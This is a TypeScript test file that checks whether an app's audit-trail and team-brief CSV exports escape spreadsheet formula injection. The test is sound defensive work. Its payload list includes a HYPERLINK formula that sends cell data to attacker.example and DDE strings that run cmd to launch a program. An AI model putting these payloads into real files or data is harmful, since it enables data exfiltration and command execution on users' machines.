import { parse } from 'csv-parse/sync';
import type request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { briefToCsv } from '../../../backend/src/modules/teams/brief-csv';
import type { TeamBriefResponse } from '../../../shared/briefs';
import { validCsv } from '../../helpers/hostile-files';
import { ACCOUNTS, startTestCoppice, type TestCoppice } from '../../helpers/test-coppice';
import { useDemoRuns, waitForPublication } from '../briefs/demo-sources';

// Text a person can put into Coppice that a spreadsheet would run as a formula if exported raw
// (OWASP "CSV Injection": cells starting with = + - @, a tab or a carriage return).
const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
];

let coppice: TestCoppice;
let privacy: request.Agent;
beforeAll(async () => {
  coppice = await startTestCoppice();
  privacy = await coppice.signIn(ACCOUNTS.privacy);
  const analyst = await coppice.signIn(ACCOUNTS.analyst);
  for (const [i, formula] of FORMULAS.entries()) {
    const policy = await privacy.put('/api/policy').send({
      k: 5 + i + 1,
      blockedFields: [formula.slice(0, 40)],
      proxyThreshold: 0.5,
      retentionDays: 365,
      reason: formula,
    });
    expect(policy.status).toBe(200);
    const upload = await analyst
      .post('/api/datasets')
      .field('name', formula.slice(0, 60))
      .attach('file', Buffer.from(validCsv()), 'staff.csv');
    expect(upload.status).toBe(201);
  }
});
afterAll(async () => {
  await coppice?.stop();
});

function dangerousCells(csv: string): string[] {
  const rows: string[][] = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true });
  return rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}

describe('CSV exports and formula injection', () => {
  it('writes no audit-trail cell that a spreadsheet would run as a formula, and keeps the text', async () => {
    const res = await privacy.get('/api/audit/export.csv?pageSize=200');
    expect(res.status).toBe(200);
    expect(res.type).toBe('text/csv');
    expect(dangerousCells(res.text)).toEqual([]);
    // The text is kept (inside the details cell, which starts with "{").
    expect(res.text).toContain('=HYPERLINK(');
    expect(res.text).toContain('@SUM(1+1)');
  });

  it('finds the formulas in the audit trail itself, so the export had them to neutralise', async () => {
    const page = await privacy.get('/api/audit?pageSize=200');
    const text = JSON.stringify(page.body.items);
    for (const formula of FORMULAS.slice(0, 4)) expect(text).toContain(JSON.stringify(formula).slice(1, 12));
  });
});

describe('the team brief CSV and formula injection', () => {
  it('writes no brief cell a spreadsheet would run as a formula, even where names and actions are formulas', async () => {
    const analyst = await coppice.signIn(ACCOUNTS.analyst);
    const manager = await coppice.signIn(ACCOUNTS.managerNorth);
    const demo = await useDemoRuns(analyst, privacy, { rows: 400 });
    const run = await demo.requestedRun();
    expect((await privacy.post(`/api/models/${run}/publish`).send({})).status).toBe(202);
    expect((await waitForPublication(privacy, run)).status).toBe('published');
    const team = ((await manager.get('/api/teams')).body as { id: string; withheld: boolean }[]).find(
      (t) => !t.withheld,
    )!;
    const csv = await manager.get(`/api/teams/${team.id}/brief.csv`);
    expect(csv.status).toBe(200);
    expect(dangerousCells(csv.text)).toEqual([]);

    // The same brief with every free-text part replaced by a formula, through the same writer.
    const brief = (await manager.get(`/api/teams/${team.id}/brief`)).body as TeamBriefResponse;
    expect(brief.withheld).toBe(false);
    const hostile = JSON.parse(JSON.stringify(brief)) as TeamBriefResponse & Record<string, unknown>;
    hostile.team.name = FORMULAS[0];
    hostile.team.department = FORMULAS[1];
    if (!hostile.withheld) {
      hostile.drivers = hostile.drivers.map((d, i) => ({
        ...d,
        feature: FORMULAS[i % FORMULAS.length],
        sentence: FORMULAS[(i + 1) % FORMULAS.length],
        suggestedAction: FORMULAS[(i + 2) % FORMULAS.length],
      }));
      expect(hostile.drivers.length).toBeGreaterThan(0);
    }
    const text = briefToCsv(hostile);
    expect(text).toContain("'=HYPERLINK(");
    expect(dangerousCells(text)).toEqual([]);
  }, 120_000);
});
